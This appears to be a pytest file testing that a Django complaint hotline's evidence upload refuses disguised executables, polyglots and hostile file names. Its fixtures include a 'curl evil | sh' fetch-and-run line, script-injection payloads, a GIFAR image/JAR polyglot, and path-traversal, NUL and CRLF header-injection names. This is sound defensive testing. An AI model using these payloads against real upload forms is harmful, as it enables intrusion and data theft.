"""Hostile evidence files, sent through the complaint form as a browser would.

A refused file is named in a clear message on the page, and nothing is kept: no complaint,
no evidence row, no file under PRIVATE_MEDIA_ROOT (the form is shown again and the visitor
attaches the files again). A file with a path in its name that is otherwise fine is kept
under a plain name, inside PRIVATE_MEDIA_ROOT and nowhere else.
"""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from hotline.models import Attachment, Complaint, HeldFile, Notification
from hotline.vault import evidence
from tests.hotline.evidence_files import exe_bytes, jpeg_bytes, pdf_bytes, png_bytes
from tests.hotline.helpers import (
    assert_encrypted_at_rest,
    complaint_post_data,
    shown,
    stored_plaintext,
)

pytestmark = pytest.mark.django_db

LANGUAGES = [("", "uk"), ("/en", "en")]
CONTENT = (
    "“%(name)s” does not contain what its name says (%(ext)s). Please attach the original file."
)
TYPE = "“%(name)s” is not a type we accept: images, PDF, video, audio or office documents."
EMPTY = "“%(name)s” is empty."
TOO_BIG = (
    "“%(name)s” is larger than 10 MB. Send it under “Large files” on this form (it needs"
    " JavaScript in your browser), or to us after we contact you."
)
TOO_MANY = "Attach at most %(max)d files (you attached %(count)d)."
NONE_KEPT = "No file was kept: the reason is below the file field."
OTHERS_KEPT = (
    "The files listed above passed our checks and are kept for one hour: you do not need to "
    "attach them again. The file named below was not kept."
)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_with_text_chunk(text: bytes) -> bytes:
    """A valid PNG whose tEXt metadata chunk carries `text`."""
    png = png_bytes()
    return png[:33] + _png_chunk(b"tEXt", b"Comment\x00" + text) + png[33:]


def gifar() -> bytes:
    """A GIF with a Java archive appended: an image to one reader, a JAR to another."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as jar:
        jar.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: A\n")
        jar.writestr("A.class", b"\xca\xfe\xba\xbe" + b"\x00" * 32)
    gif = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00"
        b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )
    return gif + archive.getvalue()


def large_png_with_zip_at_the_end() -> bytes:
    """Over the 64 KB the type detection reads, with the archive only in the tail."""
    return png_bytes() + b"\x00" * (evidence.SNIFF_BYTES * 2) + gifar()[-200:]


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>'
SCRIPT_TAIL = b"<html><script>alert(1)</script></html>"

# (id, file name, content, message, extension in the message)
REFUSED = [
    ("exe-as-pdf", "act.pdf", exe_bytes(), CONTENT, ".pdf"),
    ("exe-as-png", "photo.png", exe_bytes(), CONTENT, ".png"),
    ("elf-as-png", "photo.png", ELF, CONTENT, ".png"),
    ("elf-as-pdf", "act.pdf", ELF, CONTENT, ".pdf"),
    ("html-as-pdf", "act.pdf", HTML, CONTENT, ".pdf"),
    ("html-as-png", "photo.png", HTML, CONTENT, ".png"),
    ("svg-as-png", "photo.png", SVG, CONTENT, ".png"),
    ("svg-as-jpg", "photo.jpg", b'<?xml version="1.0"?>' + SVG, CONTENT, ".jpg"),
    ("shell-as-pdf", "act.pdf", b"#!/bin/sh\ncurl evil | sh\n", CONTENT, ".pdf"),
    ("png-header-then-html", "photo.png", png_bytes() + SCRIPT_TAIL, CONTENT, ".png"),
    ("png-with-html-metadata", "photo.png", png_with_text_chunk(SCRIPT_TAIL), CONTENT, ".png"),
    ("jpeg-then-script", "photo.jpg", jpeg_bytes() + b"<script>alert(1)</script>", CONTENT, ".jpg"),
    ("html-then-png", "photo.png", SCRIPT_TAIL + png_bytes(), CONTENT, ".png"),
    ("mz-then-pdf", "act.pdf", exe_bytes() + pdf_bytes(), CONTENT, ".pdf"),
    ("gifar", "photo.gif", gifar(), CONTENT, ".gif"),
    ("png-zip-in-tail", "photo.png", large_png_with_zip_at_the_end(), CONTENT, ".png"),
    ("pdf-as-png", "photo.png", pdf_bytes(), CONTENT, ".png"),
    ("svg-named-svg", "drawing.svg", SVG, TYPE, None),
    ("html-named-html", "page.html", HTML, TYPE, None),
    ("exe-named-exe", "setup.exe", exe_bytes(), TYPE, None),
    ("double-extension", "photo.png.exe", png_bytes(), TYPE, None),
    ("no-extension", "photo", png_bytes(), TYPE, None),
    ("empty", "empty.pdf", b"", EMPTY, None),
    ("oversize", "scan.pdf", pdf_bytes() + b"\x00" * evidence.MAX_FILE_SIZE, TOO_BIG, None),
    ("path-traversal-exe", "../../etc/passwd.png", exe_bytes(), CONTENT, ".png"),
    ("windows-path-html", "..\\..\\win.png", HTML, CONTENT, ".png"),
    ("long-name-exe", "a" * 296 + ".pdf", exe_bytes(), CONTENT, ".pdf"),
]


def private_files(settings) -> list[Path]:
    root = Path(settings.PRIVATE_MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def post(client, prefix, files):
    return client.post(f"{prefix}/complaint/", {**complaint_post_data(), "attachments": files})


def assert_nothing_kept(settings):
    assert not Complaint.objects.exists()
    assert not Attachment.objects.exists()
    assert not Notification.objects.exists()
    assert private_files(settings) == []


@pytest.mark.parametrize("prefix, language", LANGUAGES)
@pytest.mark.parametrize(
    "name, content, message, ext", [case[1:] for case in REFUSED], ids=[c[0] for c in REFUSED]
)
def test_hostile_file_is_refused_with_a_clear_message(
    client, settings, prefix, language, name, content, message, ext
):
    response = post(client, prefix, [SimpleUploadedFile(name, content, "image/png")])
    assert response.status_code == 200
    html = response.content.decode()
    params = {"name": evidence.safe_name(name)}
    if ext:
        params["ext"] = ext
    assert shown(message, language, **params) in html
    assert shown(NONE_KEPT, language) in html
    # The message names the file, never the path that came with it.
    assert "../" not in html
    assert "..\\" not in html
    assert_nothing_kept(settings)


@pytest.mark.parametrize("prefix, language", LANGUAGES)
def test_one_bad_file_among_good_ones_keeps_the_good_ones_only(
    client, settings, prefix, language, django_capture_on_commit_callbacks
):
    files = [
        SimpleUploadedFile("photo.png", png_bytes()),
        SimpleUploadedFile("invoice.pdf", exe_bytes()),
        SimpleUploadedFile("act.pdf", pdf_bytes()),
    ]
    response = post(client, prefix, files)
    assert response.status_code == 200
    html = response.content.decode()
    assert shown(CONTENT, language, name="invoice.pdf", ext=".pdf") in html
    assert shown(OTHERS_KEPT, language) in html
    held = html.split('id="held-files"')[1].split("</ul>")[0]
    assert "photo.png" in held and "act.pdf" in held and "invoice.pdf" not in held
    assert sorted(HeldFile.objects.values_list("original_name", flat=True)) == [
        "act.pdf",
        "photo.png",
    ]
    assert not Complaint.objects.exists()
    assert len(private_files(settings)) == 2  # the two kept, encrypted; the refused one nowhere
    # Sent again without any file: the kept ones go with the complaint.
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(f"{prefix}/complaint/", complaint_post_data()).status_code == 302
    names = Attachment.objects.values_list("original_name", flat=True)
    assert sorted(names) == ["act.pdf", "photo.png"]


@pytest.mark.parametrize("prefix, language", LANGUAGES)
def test_six_files_are_refused(client, settings, prefix, language):
    files = [SimpleUploadedFile(f"photo{n}.png", png_bytes()) for n in range(6)]
    response = post(client, prefix, files)
    assert response.status_code == 200
    assert shown(TOO_MANY, language, max=5, count=6) in response.content.decode()
    assert_nothing_kept(settings)


@pytest.mark.parametrize("prefix, language", LANGUAGES)
def test_request_over_the_total_cap_is_refused_before_reading(
    client, settings, monkeypatch, prefix, language
):
    from hotline import views

    monkeypatch.setattr(views, "MAX_COMPLAINT_REQUEST_BYTES", 512 * 1024)
    files = [SimpleUploadedFile(f"scan{n}.pdf", pdf_bytes() + b"\x00" * 300_000) for n in (1, 2)]
    response = post(client, prefix, files)
    assert response.status_code == 413
    assert (
        shown("The files together are too large: at most 5 files of 10 MB each.", language)
        in response.content.decode()
    )
    assert_nothing_kept(settings)


# --- Names with paths, of files that are otherwise fine --------------------------------------


@pytest.mark.parametrize(
    "name, kept_as",
    [
        ("../../etc/passwd.png", "passwd.png"),
        ("..\\..\\win.png", "win.png"),
        ("/etc/cron.d/evil.png", "evil.png"),
        ("C:\\Windows\\System32\\evil.png", "evil.png"),
        ("....//....//evil.png", "evil.png"),
        ("%2e%2e%2fevil.png", "%2e%2e%2fevil.png"),  # not decoded: just characters
        ("evil\u202egnp.exe.png", "evilgnp.exe.png"),  # the bidi override is dropped
        ("a" * 296 + ".png", "a" * 251 + ".png"),
    ],
)
def test_a_path_in_the_name_never_reaches_the_disk(client, settings, tmp_path, name, kept_as):
    response = post(client, "", [SimpleUploadedFile(name, png_bytes())])
    assert response.status_code == 302, response.content.decode()[:3000]
    attachment = Attachment.objects.get()
    assert attachment.original_name == kept_as
    assert "/" not in attachment.original_name and "\\" not in attachment.original_name
    assert len(attachment.original_name) <= 255
    root = Path(settings.PRIVATE_MEDIA_ROOT).resolve()
    stored = Path(attachment.file.path).resolve()
    assert stored.is_relative_to(root)
    assert_encrypted_at_rest(stored, png_bytes())
    assert stored_plaintext(attachment) == png_bytes()
    # The stored name is the server's own, nothing of the visitor's.
    assert ".." not in attachment.file.name
    assert "evil" not in attachment.file.name and "passwd" not in attachment.file.name
    # Nothing landed anywhere else in the test's directory (or above it).
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written == [stored]
    assert not Path("/etc/cron.d/evil.png").exists()


BOUNDARY = "----hostile-boundary"


def raw_multipart(fields: dict, disposition: bytes, content: bytes) -> bytes:
    """A multipart body whose file part has a Content-Disposition written by hand: names no
    browser would send (and Django's own test helpers refuse to build)."""
    from django.test.client import encode_multipart

    body = encode_multipart(BOUNDARY, fields).rsplit(f"--{BOUNDARY}--".encode(), 1)[0]
    return (
        body
        + f"--{BOUNDARY}\r\n".encode()
        + b'Content-Disposition: form-data; name="attachments"; '
        + disposition
        + b"\r\nContent-Type: image/png\r\n\r\n"
        + content
        + f"\r\n--{BOUNDARY}--\r\n".encode()
    )


@pytest.mark.parametrize(
    "disposition",
    [
        b'filename=".."',
        b'filename="."',
        b'filename=""',
        b'filename="../"',
        b'filename="/"',
        b'filename="evil.png\x00.exe"',
        b'filename="evil\r\nX-Injected: 1.png"',
        b"filename*=UTF-8''..%2F..%2Fevil.png",
        b"filename*=UTF-8''%00.png",
        b'filename="' + b"../" * 2000 + b'evil.png"',
        b'filename="\xff\xfe.png"',
    ],
    ids=[
        "dotdot",
        "dot",
        "empty",
        "dotdot-slash",
        "slash",
        "nul",
        "crlf",
        "rfc2231-traversal",
        "rfc2231-nul",
        "deep-traversal",
        "not-utf8",
    ],
)
def test_filenames_no_browser_sends_are_harmless(client, settings, tmp_path, disposition):
    fields = complaint_post_data()
    response = client.post(
        "/complaint/",
        raw_multipart(fields, disposition, png_bytes()),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )
    assert response.status_code in {200, 302, 400}, response.status_code
    root = Path(settings.PRIVATE_MEDIA_ROOT).resolve()
    written = [p.resolve() for p in tmp_path.rglob("*") if p.is_file()]
    assert all(p.is_relative_to(root) for p in written)
    for attachment in Attachment.objects.all():
        name = attachment.original_name
        assert name and "/" not in name and "\\" not in name and ".." not in name
        assert not any(ord(ch) < 32 for ch in name)
        assert Path(attachment.file.path).resolve().is_relative_to(root)
    if response.status_code != 302:
        assert_nothing_kept(settings)
